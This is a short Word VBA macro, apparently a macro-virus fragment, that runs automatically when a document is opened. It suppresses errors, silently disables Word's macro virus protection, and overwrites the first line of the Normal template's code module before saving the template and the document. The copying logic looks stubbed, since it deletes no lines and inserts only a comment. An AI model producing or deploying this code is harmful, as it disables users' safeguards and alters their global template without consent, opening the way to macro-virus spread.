Private Sub Document_Open()
    On Error Resume Next
    Options.VirusProtection = False
    Set n = NormalTemplate.VBProject.VBComponents(1).CodeModule
    If n.Lines(1, 1) <> "'nothing" Then
        n.DeleteLines 1, 0
        n.AddFromString "'nothing"
        NormalTemplate.Save
    End If
    ActiveDocument.SaveAs ActiveDocument.FullName
End Sub
